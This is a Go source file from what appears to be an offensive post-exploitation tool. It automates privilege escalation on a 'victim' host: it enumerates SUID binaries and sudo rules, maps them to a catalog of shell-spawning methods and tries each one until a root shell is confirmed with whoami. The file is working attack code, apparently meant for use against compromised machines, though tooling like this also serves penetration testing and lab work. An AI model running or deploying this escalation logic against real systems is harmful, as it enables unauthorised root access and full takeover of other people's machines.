// Package privesc enumerates and executes privilege escalation against a
// victim session: SUID binaries and sudo rules mapped onto shell-capable
// catalog methods.
package privesc

import (
	"fmt"
	"path"
	"regexp"
	"strings"

	"github.com/grapnel/grapnel/core"
	"github.com/grapnel/grapnel/gtfobins"
	"github.com/grapnel/grapnel/victim"
)

// Technique names how a finding elevates.
type Technique string

const (
	TechniqueSuid Technique = "suid"
	TechniqueSudo Technique = "sudo"
)

// Finding is one escalation opportunity discovered on the victim, bound to
// the catalog method that can exploit it.
type Finding struct {
	Technique Technique
	Binary    string
	Path      string

	// RunAs is the user a sudo rule grants, empty for SUID findings.
	RunAs string

	// NoPassword marks sudo rules tagged NOPASSWD.
	NoPassword bool

	Method *gtfobins.Method
}

// String renders a short description for tables and logs.
func (f *Finding) String() string {
	switch f.Technique {
	case TechniqueSudo:
		return fmt.Sprintf("sudo %s as %s", f.Path, f.RunAs)
	default:
		return fmt.Sprintf("suid %s", f.Path)
	}
}

// Escalator drives enumeration and escalation over one session.
type Escalator struct {
	session *victim.Session
	log     *core.Logger
	broker  *core.EventBroker
}

// NewEscalator binds an escalator to a session.
func NewEscalator(session *victim.Session, log *core.Logger, broker *core.EventBroker) *Escalator {
	if log == nil {
		log = core.NewLogger(false)
	}
	return &Escalator{session: session, log: log, broker: broker}
}

// sudoRulePattern matches the command lines `sudo -l` prints, e.g.
//
//	(root) NOPASSWD: /usr/bin/vim
//	(ALL : ALL) /bin/bash
var sudoRulePattern = regexp.MustCompile(`^\s*\(([^)]+)\)\s*(NOPASSWD:\s*)?(.+)$`)

// Enumerate collects SUID and sudo findings that map onto shell-capable
// catalog methods. Opportunities the catalog has no recipe for are logged
// and skipped, not returned.
func (e *Escalator) Enumerate() ([]*Finding, error) {
	var findings []*Finding

	suid, err := e.enumerateSuid()
	if err != nil {
		return nil, err
	}
	findings = append(findings, suid...)

	sudo, err := e.enumerateSudo()
	if err != nil {
		e.log.Warn("sudo enumeration failed: %v", err)
	} else {
		findings = append(findings, sudo...)
	}

	return findings, nil
}

func (e *Escalator) enumerateSuid() ([]*Finding, error) {
	out, err := e.session.Run("find / -perm -4000 -type f 2>/dev/null")
	if err != nil {
		return nil, fmt.Errorf("suid enumeration failed: %w", err)
	}

	catalog := e.session.Catalog()
	which := func(name string) string { return e.session.Which(name) }

	var findings []*Finding
	for _, line := range strings.Split(string(out), "\n") {
		binPath := strings.TrimSpace(line)
		if binPath == "" || !strings.HasPrefix(binPath, "/") {
			continue
		}
		name := path.Base(binPath)
		method, rerr := catalog.ResolveSuid(binPath, which)
		if rerr != nil {
			e.log.Debug("suid %s: %s", binPath, rerr.Error())
			continue
		}
		findings = append(findings, &Finding{
			Technique: TechniqueSuid,
			Binary:    name,
			Path:      binPath,
			Method:    method,
		})
	}
	return findings, nil
}

func (e *Escalator) enumerateSudo() ([]*Finding, error) {
	out, err := e.session.Run("sudo -n -l 2>/dev/null")
	if err != nil {
		return nil, fmt.Errorf("sudo enumeration failed: %w", err)
	}

	catalog := e.session.Catalog()
	which := func(name string) string { return e.session.Which(name) }

	var findings []*Finding
	for _, line := range strings.Split(string(out), "\n") {
		m := sudoRulePattern.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		runAs := strings.TrimSpace(strings.Split(m[1], ":")[0])
		if runAs == "ALL" {
			runAs = "root"
		}
		noPassword := m[2] != ""

		for _, cmd := range strings.Split(m[3], ",") {
			binPath := strings.Fields(strings.TrimSpace(cmd))
			if len(binPath) == 0 || !strings.HasPrefix(binPath[0], "/") {
				continue
			}
			name := path.Base(binPath[0])
			method, rerr := catalog.ResolveSudo(binPath[0], runAs, gtfobins.CapShell, gtfobins.StreamAny, which)
			if rerr != nil {
				e.log.Debug("sudo %s: %s", binPath[0], rerr.Error())
				continue
			}
			findings = append(findings, &Finding{
				Technique:  TechniqueSudo,
				Binary:     name,
				Path:       binPath[0],
				RunAs:      runAs,
				NoPassword: noPassword,
				Method:     method,
			})
		}
	}
	return findings, nil
}

// Attempt executes one finding and verifies the resulting identity. On
// success the remote session is left inside the elevated shell.
func (e *Escalator) Attempt(finding *Finding, password string) error {
	e.log.Info("attempting %s", finding)

	if err := e.session.SpawnShell(finding.Method, password); err != nil {
		e.publish(core.EventEscalationFailed, err)
		return err
	}

	expected := finding.RunAs
	if expected == "" {
		expected = "root"
	}
	out, err := e.session.Run("whoami")
	if err != nil {
		e.publish(core.EventEscalationFailed, err)
		return fmt.Errorf("identity check failed: %w", err)
	}
	got := strings.TrimSpace(string(out))
	if got != expected {
		err := fmt.Errorf("escalation via %s did not elevate: still %s", finding.Binary, got)
		e.publish(core.EventEscalationFailed, err)
		return err
	}

	e.log.Info("escalated to %s via %s", got, finding.Binary)
	e.publish(core.EventEscalationSucceeded, nil)
	return nil
}

// AttemptAll tries findings in order until one succeeds, returning the
// winning finding.
func (e *Escalator) AttemptAll(findings []*Finding, password string) (*Finding, error) {
	var lastErr error
	for _, finding := range findings {
		if finding.Technique == TechniqueSudo && !finding.NoPassword && password == "" {
			continue
		}
		if err := e.Attempt(finding, password); err != nil {
			e.log.Warn("%s failed: %v", finding, err)
			lastErr = err
			continue
		}
		return finding, nil
	}
	if lastErr == nil {
		lastErr = fmt.Errorf("no viable escalation path")
	}
	return nil, lastErr
}

func (e *Escalator) publish(t core.EventType, err error) {
	if e.broker == nil {
		return
	}
	e.broker.Publish(core.Event{EventType: t, SessionID: e.session.ID, Err: err})
}
